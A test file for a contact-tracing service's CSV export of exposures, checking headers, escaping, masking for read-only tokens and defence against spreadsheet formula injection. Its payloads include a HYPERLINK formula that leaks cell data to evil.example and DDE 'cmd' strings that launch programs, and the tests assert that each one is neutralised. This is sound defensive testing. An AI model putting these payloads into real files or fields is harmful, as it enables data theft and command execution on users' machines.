/** The exposures CSV: the same data as the page, RFC 4180, and no cell a spreadsheet would run as a formula. */
import { createClient } from '@ridetrace/server';
import { csvCell, toCsv } from '@ridetrace/server/testing';
import { EXPOSURE_CSV_COLUMNS } from '@ridetrace/shared';
import { describe, expect, it } from 'vitest';
import { byKey, csvFromPage, csvRecords, FORMULA_START, parseCsv } from '../support/exposures-csv.js';
import { expectError } from '../support/flows.js';
import { clientToken } from '../support/test-app.js';
import { HOUR, MIN, newPhone, next, useTraceKit, type Vehicle } from '../support/trace-kit.js';

const { t, w, k } = useTraceKit();

describe('CSV export', () => {
  it('text/csv, UTF-8 BOM, header, one line per contact, same data as the exposures page', async () => {
    const bus = await k.vehicle('bus');
    const metro = await k.vehicle('metro');
    const s = await k.person();
    await k.ride(s, bus, 0);
    await k.ride(s, metro, HOUR);
    const p = await k.person();
    await k.ride(p, bus, 5 * MIN);
    await k.ride(p, metro, HOUR + MIN);
    const q = await k.person();
    await k.ride(q, bus, 25 * MIN);
    const c = await k.openCase({ phone: s.phone }, -HOUR, 2 * HOUR);
    const page = await k.exposures(c.id);

    const res = await k.csv(c.id);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="case-${c.id}-exposures.csv"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(res.text.startsWith('\uFEFF')).toBe(true);
    expect(res.text.slice(1).split('\r\n')[0]).toBe(EXPOSURE_CSV_COLUMNS.join(','));
    expect(res.text.endsWith('\r\n')).toBe(true);
    const records = csvRecords(res);
    expect(records).toHaveLength(3);
    expect(records.sort(byKey)).toEqual(csvFromPage(page).sort(byKey));
    expect(records.filter((r) => r.person_id === p.id)).toHaveLength(2);
    expect(records.find((r) => r.person_id === q.id)).toMatchObject({
      name: q.name,
      phone: q.phone,
      person_level: 'possible',
      contact_level: 'possible',
      gap_minutes: '25',
      degree: '1',
      via: '',
      carrier_kind: 'bus',
    });
    expectError(
      await t.http().get(`/v1/cases/${c.id}/exposures.csv?limit=1`).set('authorization', w.tokens.official),
      400,
      'validation_failed',
    );
  });

  it('an empty trace is a header-only CSV', async () => {
    const s = await k.person();
    const c = await k.openCase({ phone: s.phone }, -HOUR, 0);
    const res = await k.csv(c.id);
    expect(res.text).toBe(`\uFEFF${EXPOSURE_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('formula injection: route, city and name cells starting with = + - @ tab CR are neutralised', async () => {
    const tooLong = await t.http().post('/v1/carriers').set('authorization', w.tokens.operator).send({
      kind: 'bus',
      plate: '粤B99999',
      route: '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      city: '深圳',
    });
    expectError(tooLong, 400, 'validation_failed'); // 51 > 40 characters: the 40-character variant below

    const payloads: { route: string; city: string }[] = [
      { route: '=HYPERLINK("http://evil.example/?l="&A1)', city: "=cmd|' /C calc'!A0" },
      { route: '@SUM(1+1)', city: '+1+1' },
      { route: '-2+3', city: '\t=1+2' },
      { route: '\r=3+4', city: '\t@A1' },
      { route: "+cmd|' /C notepad'!A0", city: '\r-1' },
    ];
    const vehicles: Vehicle[] = [];
    for (const p of payloads) vehicles.push(await k.vehicle('bus', p));
    // Route and city are stored trimmed; every stored value still starts with a formula character.
    for (const v of vehicles) {
      expect(v.route).toMatch(FORMULA_START);
      expect(v.city).toMatch(FORMULA_START);
    }
    const s = await k.person();
    const contact = await k.person({ name: '-王五', phone: newPhone(next()) });
    for (const [i, v] of vehicles.entries()) {
      await k.ride(s, v, i * 10 * MIN);
      await k.ride(contact, v, i * 10 * MIN + MIN);
    }
    const c = await k.openCase({ phone: s.phone }, -HOUR, HOUR);

    const readOnly = await clientToken(
      t,
      await createClient(t.db, { name: 'o', role: 'official', scopes: ['trace:read'] }),
    );
    for (const token of [w.tokens.official, readOnly]) {
      const res = await k.csv(c.id, '', token);
      const records = csvRecords(res);
      expect(records).toHaveLength(vehicles.length);
      for (const r of records) {
        for (const cell of Object.values(r)) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
        const v = vehicles.find((x) => x.plate === r.plate)!;
        expect(r.route).toBe(`'${v.route}`);
        expect(r.city).toBe(`'${v.city}`);
        expect(r.name!.startsWith("'-")).toBe(true);
      }
      expect(records[0]!.name).toBe(token === readOnly ? "'-*五" : "'-王五");
      // No raw line starts with a formula character either (quoted cells start with a quote).
      for (const line of res.text.slice(1).split('\r\n')) expect(line).not.toMatch(FORMULA_START);
    }
  });

  describe('csvCell / toCsv', () => {
    it.each([
      [null, ''],
      [undefined, ''],
      [0, '0'],
      [2.5, '2.5'],
      ['深圳', '深圳'],
      ['=1+1', "'=1+1"],
      [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
      ],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ['@SUM(1+1)', "'@SUM(1+1)"],
      ['+1+1', "'+1+1"],
      ['-2+3', "'-2+3"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
      ['a,b', '"a,b"'],
      ['say "hi"', '"say ""hi"""'],
      ['two\nlines', '"two\nlines"'],
      [' padded ', '" padded "'],
      ["it's", "it's"],
    ] as [string | number | null | undefined, string][])('csvCell(%j) → %j', (value, cell) => {
      expect(csvCell(value)).toBe(cell);
      if (typeof value === 'string') {
        const [[parsed]] = parseCsv(`${cell}\r\n`) as [[string]];
        expect(parsed).toBe(FORMULA_START.test(value) ? `'${value}` : value);
      }
    });

    it('toCsv: BOM, CRLF, header first, every cell escaped; parses back', () => {
      const text = toCsv(
        ['a', 'b', 'c'],
        [
          ['=1+1', null, 3],
          ['x,"y"', '@z', '\r\n-'],
        ],
      );
      expect(text).toBe(`\uFEFFa,b,c\r\n'=1+1,,3\r\n"x,""y""",'@z,"'\r\n-"\r\n`);
      expect(parseCsv(text.slice(1))).toEqual([
        ['a', 'b', 'c'],
        ["'=1+1", '', '3'],
        ['x,"y"', "'@z", "'\r\n-"],
      ]);
      expect(toCsv(['only'], [])).toBe('\uFEFFonly\r\n');
    });
  });
});
